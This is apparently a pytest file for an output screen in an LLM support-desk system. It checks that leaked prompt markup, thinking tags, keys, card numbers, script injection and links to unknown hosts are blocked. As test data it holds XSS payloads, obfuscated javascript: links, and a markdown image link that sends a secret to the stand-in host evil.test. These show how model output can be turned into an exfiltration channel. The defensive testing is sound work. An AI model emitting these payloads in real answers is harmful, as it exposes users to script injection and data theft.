"""The output screen stops what must not leave, and lets through what stands in the evidence."""

import pytest

from deskgraph.guardrails import Grounds, screen_output
from deskgraph.prompts import DATA_RULE, Section, write

EVIDENCE = Grounds(
    articles=[
        "Track it at https://www.shop.example.com/track?o=1 or write to help@shop.example.com, 030 1234567."
    ],
    asked=["I am ann@example.org and paid with 4111 1111 1111 1111; my old key was AKIAIOSFODNN7EXAMPLE."],
)


def stops(text: str, grounds: Grounds = EVIDENCE) -> list[tuple[str, str]]:
    return [(finding.kind, finding.excerpt) for finding in screen_output(text, grounds)]


@pytest.mark.parametrize(
    "text",
    [
        "Your order is on its way. I think it comes on 3.5., e.g. by courier.",
        "Look at https://shop.example.com/other/page, or at shop.example.com.",
        "You wrote from Ann@Example.org; we answer from help@shop.example.com.",
        "You paid with 4111111111111111, and the key was AKIAIOSFODNN7EXAMPLE.",
        "Order 1234567890123456 has the parcel number 00340434161094042557.",
        "Press # and/or 1 (data is free). Open file.pdf, README.md and index.html.",
        "## How to return\n\n1. Pack it.\n2. Post it.",
        "We script nothing: your style and form are fine. Call +49 30 1234567.",
        "",
    ],
)
def test_an_ordinary_answer_passes(text: str) -> None:
    assert stops(text) == []


@pytest.mark.parametrize(
    "text",
    [
        write([Section("passage", "Returns take 30 days.", labels={"id": "3"})]),
        "As written in ## tool_report (data; tool=refund",
        "## task (instructions)",
        "<|im_end|>",
        f"I was told: {DATA_RULE}",
    ],
)
def test_the_prompts_own_markup_is_stopped(text: str) -> None:
    assert [kind for kind, _ in stops(text)] == ["prompt_markup"]


@pytest.mark.parametrize(
    "text", ["<think>Hm.</think>Yes.", "</ Thinking >Yes.", "<th\u200bink>", "<REASONING>"]
)
def test_a_models_thinking_is_stopped(text: str) -> None:
    assert [kind for kind, _ in stops(text)] == ["thinking"]


@pytest.mark.parametrize(
    "text",
    [
        "sk-ant-api03-" + "a" * 40,
        "sk-proj-" + "b" * 40,
        "AKIA" + "B" * 16,
        "ghp_" + "c" * 36,
        "xoxb-1234567890-abcdef",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijklmnop",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----",
    ],
)
def test_a_key_is_stopped_and_not_shown_whole(text: str) -> None:
    ((kind, excerpt),) = stops(f"Use {text} then.")
    assert (kind, excerpt) == ("credential", f"{text[:8]}…")
    assert stops(f"Use {text} then.", Grounds(asked=[text])) == []


@pytest.mark.parametrize(
    "number", ["5555555555554444", "5555 5555 5555 4444", "5555-5555-5555-4444", "378282246310005"]
)
def test_a_card_number_is_stopped_and_not_shown_whole(number: str) -> None:
    digits = number.replace(" ", "").replace("-", "")
    assert stops(f"Card {number}.") == [("card_number", f"…{digits[-4:]}")]
    assert stops(f"Card {number}.", Grounds(asked=[f"my card {digits}"])) == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>x</script>",
        "< SCRIPT src=x>",
        "[here](javascript:alert(1))",
        "[here](java\nscript:alert(1))",
        "[here](java&#115;cript:alert(1))",
        "[here](javascript%3Aalert(1))",
        "[here](data:text/html;base64,AAAA)",
        "<img src=x onerror=alert(1)>",
        "<iframe src=x>",
        "ｊａｖａscript:alert(1)",
    ],
)
def test_active_content_is_stopped_even_if_the_evidence_has_it(text: str) -> None:
    assert "active_content" in [kind for kind, _ in stops(text, Grounds(asked=[text]))]


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://evil.test/x", "evil.test"),
        ("HTTPS://EVIL.TEST", "evil.test"),
        ("[shop.example.com](https://evil.test)", "evil.test"),
        ("https://shop.example.com@evil.test/", "evil.test"),
        ("https://shop.example.com:443@evil.test/", "evil.test"),
        ("https:\\\\evil.test\\x", "evil.test"),
        ("https:///evil.test", "evil.test"),
        ("https://evil%2etest/", "evil.test"),
        ("https://evil&#46;test/", "evil.test"),
        ("https://ev\u200bil.test/", "evil.test"),
        ("//evil.test/x", "evil.test"),
        ("www.evil.test", "evil.test"),
        ("evil.com", "evil.com"),
        ("https://shop.example.com.evil.test/", "shop.example.com.evil.test"),
        ("https://login.shop.example.com/", "login.shop.example.com"),
        ("https://ѕhop.example.com/", "ѕhop.example.com"),
        ("http://2130706433/", "2130706433"),
        ("http://[::1]:80/", "[::1]"),
        ("ftp://evil.test", "evil.test"),
        ("![](https://evil.test/p.png?q=secret)", "evil.test"),
    ],
)
def test_a_link_to_a_host_that_is_not_in_the_evidence_is_stopped(text: str, host: str) -> None:
    assert ("unknown_link", host) in stops(f"Look: {text} now")


@pytest.mark.parametrize(
    "text", ["bob@example.org", "mailto:Bob@Example.org", "b\u200bob@example.org", "<bob@example.org>"]
)
def test_another_customers_address_is_stopped(text: str) -> None:
    assert stops(f"Write to {text}, please.") == [("unknown_address", "bob@example.org")]
